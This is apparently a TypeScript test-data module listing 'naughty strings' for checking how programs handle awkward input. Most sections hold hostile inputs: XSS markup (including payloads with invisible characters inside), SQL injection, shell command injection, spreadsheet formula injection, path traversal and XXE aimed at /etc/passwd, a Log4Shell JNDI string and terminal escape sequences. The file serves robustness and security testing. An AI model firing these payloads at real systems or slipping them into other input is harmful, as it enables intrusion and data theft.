// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are no templates
/** Texts that break programs which take them for more than texts, by what they are taken for. */

/** Characters that can not be seen, or that readers drop, join or turn around. */
const UNSEEN = [
  ...[0x00, 0x01, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x1b, 0x1f, 0x20, 0x7f, 0x80, 0x85, 0x90, 0x9b, 0x9d],
  ...[
    0xa0, 0xad, 0x61c, 0x115f, 0x1680, 0x180e, 0x2000, 0x2007, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029,
  ],
  ...[0x202a, 0x202e, 0x202f, 0x205f, 0x2060, 0x2066, 0x2067, 0x2069, 0x3000, 0x3164, 0xfeff, 0xfff9, 0xfffd, 0xe0041],
].map((code) => String.fromCodePoint(code));

// biome-ignore format: one text a line makes four hundred lines
const KINDS = {
  values: [
    'undefined', 'null', 'NULL', '(null)', 'nil', 'None', 'none', 'N/A', '#N/A', '#REF!', 'true', 'FALSE', 'yes', 'off',
    '~', 'NaN', '-Infinity', 'Inf', 'toString', 'constructor', '__proto__', 'hasOwnProperty', 'prototype',
  ],
  numbers: [
    '0', '-0', '+0', '007', '08', '1.', '.5', '1e3', '1E+999', '1e-400', '0x1f', '0b1', '0o7', '1_000', '1/0', '--1',
    '1,234.5', '1.234,5', "1'234", '1 234', '$5.00', '-¥5', '5%', '9007199254740993', '99999999999999999999999',
    '-2147483648', '4294967296', '１２．５', '٣٦٫٥', '三十六点五', '36°5', '²³', '½', '12:60', '2020-02-30',
  ],
  punctuation: [
    '.', '..', ',', ';', '-', '_', '*', '\\', '\\\\', '/', '//', '|', '&', '&&', '#', '@', '!', '?', '%', '%%', '^',
    "'", '"', "''", '""', '"\'"', "'\"'", '`', '```', '“”', '‘’', '«»', '「」', '<>', '{}', '[]', '()', '<!--', '-->',
  ],
  templates: [
    '{{x}}', '{{{x}}}', '{{7*7}}', '${x}', '#{x}', '<%= x %>', '%s', '%d%n', '%1$s', '{0}', '{x!r}', '$&', '$1', '\\1',
    '\\u0041', '&lt;b&gt;', '&#60;b&#62;', '&#x3c;b', '&amp;lt;', '&nosuch;', '&#0;', '&#xD800;', '\\x3cb\\x3e', '%3Cb%3E',
  ],
  letters: [
    'ÀÉÎÕÜ', 'œßøþ', 'Ωπ∑√∞', 'Жёлтый', 'Ελλάδα', 'ไทยภาษา', 'हिन्दी', 'தமிழ்', '한국말', 'ひらがなカタカナ', 'ﾊﾝｶｸ', '繁體漢字',
    '㐀㐁', '𠮷𠀀𪚥', '〇々〆', '①⑳㈱㎏', 'ｆｕｌｌ　ｗｉｄｔｈ', '𝐦𝐚𝐭𝐡', '𝔉𝔯𝔞𝔨𝔱𝔲𝔯', 'ɐpᴉsdn', 'ﬁ ﬂ', 'İı', 'é e\u0301', '☃★♥', '😀',
    '👩🏽‍🔬', '👨‍👩‍👧‍👦', '🇨🇳🇨', '1️⃣#️⃣', '❤️❤', '👍🏿👍', '(╯°□°)╯︵ ┻━┻', '¯\\_(ツ)_/¯', 'a\u20dd', '\u0301\u0301\u0301',
    'Z\u0351\u036b\u0343a\u0338\u0324\u0331l\u0361\u035cg\u0489o\u0335', `x${'\u0300'.repeat(60)}`,
  ],
  'right to left': [
    'עברית', 'עִבְרִית', 'العربية', 'مرحبا hello 123', 'ﷺﷻ', '\u202eabc\u202c', '\u2067abc\u2069 \u2066עב\u2069', '\u200fx\u200e',
  ],
  blanks: [' ', '　', ' x ', '\tx\t', '\r\nx\r\n', ' '.repeat(40), ...UNSEEN.map((sign) => `前${sign}后`)],
  long: ['长'.repeat(500), 'x'.repeat(2000), 'a b '.repeat(300), 'ab\u00ad'.repeat(300), '9'.repeat(400)],
  markup: [
    '<script>alert(1)</script>', '</script><script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '＜script＞alert(1)＜/script＞', '< script >alert(1)< / script >', '<SCRIPT/x SRC=//x.invalid/y></SCRIPT>', '<b', '<<b>',
    '<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)//', '<img """><script>alert(1)</script>">',
    '<svg onload=alert(1)>', '<svg><script>alert&#40;1)</script>', '<svg><style><img src=x onerror=alert(1)></style>',
    '<math><mi xlink:href="javascript:alert(1)">x', '<iframe src=javascript:alert(1)>', '<iframe srcdoc="<b>x">',
    '<object data="data:text/html,x">', '<embed src=//x.invalid>', '<base href=//x.invalid>', '<link rel=stylesheet href=//x>',
    '<meta http-equiv=refresh content="0;url=//x.invalid">', '<form action=//x.invalid><button>x', '<input autofocus onfocus=alert(1)>',
    '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<u oncopy=alert(1)>x',
    '<style>*{display:none}</style>', '<div style="background:url(//x.invalid)">', '<div style="width:expression(alert(1))">',
    '<plaintext>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea></textarea><b>', '</title>',
    '<!--[if IE]><script>alert(1)</script><![endif]-->', '--><script>alert(1)</script>', '--!><b>', '<![CDATA[x]]>', ']]>',
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
  ],
  scripts: [
    '"; alert(1); "', "'; alert(1); '", '\\"; alert(1); //', '*/alert(1)/*', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)',
    'data:text/html;base64,PGI+', "eval('x')", '__import__("os")', '<?php echo 1 ?>', '${jndi:ldap://x.invalid}', '\\write18{x}',
  ],
  // whoever reads markup may see the end of a name elsewhere than who made the text safe
  'markup around what can not be seen': UNSEEN.flatMap((sign) => [
    `<a href="${sign}java${sign}script:alert(1)">x</a>`,
    `<img${sign}src=x${sign}onerror=alert(1)>`,
    `"'><script${sign}>${sign}alert(1)</script>`,
  ]),
  queries: ["1'; DROP TABLE x; --", "' OR '1'='1", '" OR ""="', '1;SELECT 1', "admin'--", '%_'],
  commands: [
    '$(touch x)', '`touch x`', '; touch x', '| touch x', '&& touch x', '> x', '< x', '$HOME', '${HOME}', '%PATH%', '~root',
    '*.csv', '!!', '--help', '-rf', '--', '@x', '() { :; }; touch x', '%x(touch x)', '#{`touch x`}',
  ],
  formulas: [
    '=1+1', '+1', '-1', '@SUM(1)', '=HYPERLINK("//x.invalid","x")', '\t=1+1', "=cmd|' /c x'!A0", '＝1+1', '{=1}', "'=1",
  ],
  files: [
    '../../../etc/passwd', '..\\..\\x', '/dev/null', 'file:///etc/passwd', '//x.invalid/y', 'C:\\x', '%2e%2e%2f', 'x%00.csv',
    'x.', 'x ', 'CON', 'NUL', 'aux.csv', 'COM1', 'LPT9', 'CLOCK$', 'a:b', 'a*b?c', '.git',
  ],
  records: [
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', '<!ENTITY % x "">', 'xmlns:x="y"',
    '- x: y', 'x: [', '!!js/function x', '&a *a', '--- x', '{"x":', '\\"', 'a,b;c|d\te', '"a","b', 'a""b', 'Date: x\r\nSet-Cookie: y=z',
  ],
  terminals: [
    '\u001b[31mred\u001b[0m', '\u001b[2J\u001b[H', '\u001b]0;title\u0007', '\u001b]8;;//x.invalid\u001b\\x\u001b]8;;\u001b\\',
    '\u009b5m', '\u001bc', 'x\b\b\by', 'x\u0007y', 'x\ry', 'x\u000by', '\u001b[6n', '\u001b[?25l', '\u001bP1$q\u001b\\', '\u000e\u000f',
  ],
};

/** All of them, each once. */
export const NAUGHTY: readonly string[] = [...new Set(Object.values(KINDS).flat())];
